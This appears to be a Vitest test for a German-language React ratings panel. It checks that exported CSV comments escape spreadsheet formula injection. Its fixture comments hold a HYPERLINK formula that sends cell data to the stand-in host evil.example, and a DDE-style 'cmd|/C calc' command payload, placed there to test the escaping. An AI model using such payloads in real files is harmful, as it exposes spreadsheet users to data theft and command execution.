import type { ModuleRatings } from '@apopunkt/domain/schemas/business';
import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { captureDownloads } from '../../../test/capture-download';
import { WithProviders } from '../../../test/with-providers';
import { RatingsPanel } from './ratings-panel';

afterEach(cleanup);
const downloads = captureDownloads();

const ratings: ModuleRatings = {
  average: 3,
  count: 2,
  distribution: [
    { stars: 1, count: 1 },
    { stars: 5, count: 1 },
  ],
  comments: [
    { stars: 1, comment: '=HYPERLINK("https://evil.example/?x="&A1,"Details")', updatedAt: '2026-11-02T09:00:00.000Z' },
    { stars: 5, comment: '-2+3+cmd|/C calc!A0; sehr gut', updatedAt: '2026-11-03T09:00:00.000Z' },
  ],
};

describe('ratings comments export', () => {
  it('writes formula comments as text and the stars as numbers', async () => {
    render(<RatingsPanel ratings={ratings} csvName="modul-bewertungen" />, { wrapper: WithProviders });
    fireEvent.click(screen.getByRole('button', { name: 'Kommentare als CSV exportieren' }));
    const lines = (await downloads.lastText()).split('\r\n');
    expect(lines[0]).toBe('\uFEFFDatum;Sterne;Kommentar');
    expect(lines[1]).toMatch(/^[^;]+;1;"'=HYPERLINK\(""https:\/\/evil\.example\/\?x=""&A1,""Details""\)"$/);
    expect(lines[2]).toMatch(/^[^;]+;5;"'-2\+3\+cmd\|\/C calc!A0; sehr gut"$/);
    expect(lines[3]).toBe('');
  });
});
